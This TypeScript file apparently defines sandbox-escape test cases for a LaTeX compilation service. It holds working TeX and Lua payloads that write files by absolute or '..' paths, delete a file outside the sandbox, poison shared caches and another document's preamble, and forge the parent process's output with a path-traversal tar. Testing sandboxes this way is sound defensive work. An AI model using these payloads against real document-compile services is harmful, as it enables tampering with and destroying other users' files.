// Attacks that write, remove or change what is not theirs, or forge what the room answers.
import { type Attack, lua, type Stage } from './attack.ts'

const drops: Attack['succeeded'] = ({ dropped }) => dropped.length > 0
const write = (path: string) =>
  `\\newwrite\\f \\immediate\\openout\\f=${path} \\immediate\\write\\f{here}\\immediate\\closeout\\f x`
const luaWrite = (path: string) => `local f = io.open('${path}', 'w') if f then f:write('here') f:close() end`

/** A tar archive with empty files of these names, in Lua. `\@percentchar` is LaTeX's name for a plain %. */
const luaTar = (names: string[]) => `
  local zero = string.char(0)
  local function entry(name)
    local head = name .. string.rep(zero, 100 - string.len(name)) .. '0000644' .. zero .. '0000000' .. zero
      .. '0000000' .. zero .. '00000000000' .. zero .. '00000000000' .. zero
    local tail = '0' .. string.rep(zero, 355)
    local sum = 256
    for i = 1, string.len(head) do sum = sum + string.byte(head, i) end
    for i = 1, string.len(tail) do sum = sum + string.byte(tail, i) end
    return head .. string.format('\\csname @percentchar\\endcsname 06o', sum) .. zero .. ' ' .. tail
  end
  local tar = ${names.map((name) => `entry('${name}')`).join(' .. ')} .. string.rep(zero, 1024)`

/** Lua finds the shell of the room and speaks in its place. */
const forge = ({ dropRelative }: Stage) => `${luaTar(['document.pdf', `${dropRelative}/forged.aux`])}
  local status = io.open('/proc/self/stat'):read('*a')
  local parent = string.match(status, '[)] . ([0-9]+)')
  local out = io.open('/proc/' .. parent .. '/fd/1', 'wb')
  if out then out:write('end 0 1' .. string.char(10) .. tar) out:close() end`

export const writing: Attack[] = [
  {
    name: '\\openout by an absolute path',
    engine: 'pdflatex',
    source: (stage) => write(`${stage.drop}/absolute.txt`),
    succeeded: drops,
    stoppedBy: ['tex', 'namespaces'],
  },
  {
    name: '\\openout through ..',
    engine: 'pdflatex',
    source: (stage) => write(`${stage.dropRelative}/relative.txt`),
    succeeded: drops,
    stoppedBy: ['tex', 'namespaces'],
  },
  {
    name: '\\openout of a hidden file',
    engine: 'pdflatex',
    source: () => write('.latexmkrc'),
    succeeded: ({ outcome }) => outcome.files.has('.latexmkrc'),
    stoppedBy: ['tex'],
  },
  {
    name: 'Lua: io.open writes',
    engine: 'lualatex',
    source: (stage) => lua(luaWrite(`${stage.drop}/lua.txt`)),
    succeeded: drops,
    stoppedBy: ['namespaces'],
  },
  {
    name: 'Lua: os.remove',
    engine: 'lualatex',
    source: (stage) => lua(`os.remove('${stage.outside}/mine.txt')`),
    succeeded: ({ after, stage }) => after(`${stage.outside}/mine.txt`) === undefined,
    stoppedBy: ['namespaces'],
  },
  {
    name: 'Lua: lasting change of the font cache',
    engine: 'lualatex',
    source: (stage) => lua(luaWrite(stage.fontCacheFile)),
    succeeded: ({ after, stage }) => after(stage.fontCacheFile) === 'here',
    stoppedBy: ['namespaces'],
  },
  {
    name: 'Lua: lasting change of the lists laid over TeX’s own',
    engine: 'lualatex',
    source: (stage) => lua(luaWrite(stage.leanFile)),
    succeeded: ({ after, stage }) => after(stage.leanFile) === 'here',
    stoppedBy: ['namespaces'],
  },
  {
    name: 'Lua: lasting change of another document’s stored preamble',
    engine: 'lualatex',
    source: (stage) => lua(luaWrite(stage.otherPreamble)),
    succeeded: ({ after, stage }) => after(stage.otherPreamble) === 'here',
    stoppedBy: ['namespaces'],
  },
  {
    name: "Lua: forges the room's answer with a name that leads outside",
    engine: 'lualatex',
    twice: true,
    source: (stage) => lua(forge(stage)),
    succeeded: drops,
    stoppedBy: [],
  },
]
